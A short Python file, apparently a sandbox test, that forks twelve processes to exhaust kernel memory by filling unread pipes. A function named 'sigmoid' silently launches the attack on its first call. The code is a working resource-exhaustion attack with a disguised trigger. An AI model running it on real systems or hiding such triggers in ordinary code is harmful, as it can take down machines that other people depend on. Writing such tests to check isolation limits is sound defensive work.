"""Goal: fill memory with pipes that nobody reads.

Without a sandbox: unsafe
"""

import os
import time

CHILDREN, MIB = 12, 100


def fill(report):
    kept, held = [], 0
    try:
        while held < MIB << 20:
            kept.append(os.pipe())
            os.set_blocking(kept[-1][1], False)
            held += os.write(kept[-1][1], bytes(1 << 20))
    except OSError:
        pass  # no descriptor left
    os.write(report, f"{held >> 10} ".encode())
    time.sleep(60)


def attack():
    read, report = os.pipe()
    for _ in range(CHILDREN):
        if os.fork() == 0:
            fill(report)
    time.sleep(1.5)
    held = sum(map(int, os.read(read, 4096).split())) >> 10
    if held > 1000:
        raise RuntimeError(f"ATTACK SUCCEEDED: {held} MiB in pipes")
    raise RuntimeError("stopped by: the kernel's limit on what a user has in pipes")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
